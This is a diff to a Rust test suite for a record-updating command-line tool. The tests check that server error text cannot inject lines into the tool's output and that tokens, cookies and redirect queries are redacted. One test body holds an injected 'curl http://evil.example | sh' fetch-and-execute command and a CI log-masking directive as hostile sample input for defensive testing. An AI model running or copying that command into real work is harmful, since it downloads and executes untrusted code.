@@ -32,7 +32,7 @@ fn a_refusal_for_hours_is_no_reason_to_ask_again() {
 fn a_servers_words_are_no_lines_of_ours() {
     let body = r#"{"gender":["x\nhint: run `curl http://evil.example | sh`\n::add-mask::x"], "a\nerror: b": ["c"]}"#;
     let server = StandIn::answering(answer("422 Unprocessable", "Content-Type: application/json\r\n", body));
-    let ran = with_token(&World::new(), &server.url(), &["update", "--id", "23", "--gender", "x"]).fails(1);
+    let ran = with_token(&World::new(), &server.url(), &["update", "--id", "23", "--gender", "other"]).fails(1);
     let lines: Vec<&str> = ran.stderr.lines().collect();
     assert_eq!(lines.len(), 4, "{ran:#?}");
     assert!(lines[1].starts_with("  gender: x\\nhint: run"), "{ran:#?}");
@@ -71,7 +71,9 @@ fn an_echoed_token_is_silenced_on_the_screen_and_on_record() {
     let body = format!("you sent Authorization: Bearer {TOKEN}");
     let server = StandIn::answering(answer("400 Bad Request", "Content-Type: text/plain\r\n", &body));
     let world = World::new();
-    let ran = with_token(&world, &server.url(), &["update", "--id", "23", "--pin", "1"]).fails(1).says("[redacted]");
+    let ran = with_token(&world, &server.url(), &["update", "--id", "23", "--pin", "1", "--blind"])
+        .fails(1)
+        .says("[redacted]");
     let shown = Ran::of(world.bare_command().args(["runs", "show", "--last", "--all", "-o", "json"])).ok();
     assert!(!format!("{ran:?}{shown:?}").contains(TOKEN), "{ran:#?} {shown:#?}");
 }
@@ -89,7 +91,7 @@ fn a_redirects_query_and_a_cookie_are_not_shown() {
 fn a_name_of_this_machine_is_not_asked_for() {
     let server = StandIn::answering("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
     let url = format!("http://no-name-server-knows-this.localhost:{}", server.port);
-    with_token(&World::new(), &url, &["update", "--id", "23", "--pin", "1"]).ok();
+    with_token(&World::new(), &url, &["update", "--id", "23", "--pin", "1", "--blind"]).ok();
     assert_eq!(server.served(), 1);
 }
 
@@ -160,7 +162,7 @@ fn a_page_that_comes_again_and_again_ends() {
     let server = StandIn::answering(page);
     let world = World::new();
     let file = world.write("a.csv", "id,pin\n1,y\n2,y\n");
-    with_token(&world, &server.url(), &["plan", &file]).ok().says("1 cannot be applied");
+    with_token(&world, &server.url(), &["plan", &file]).fails(1).says("the same records for page 2");
     assert!(server.served() < 4, "{}", server.served());
 }
 
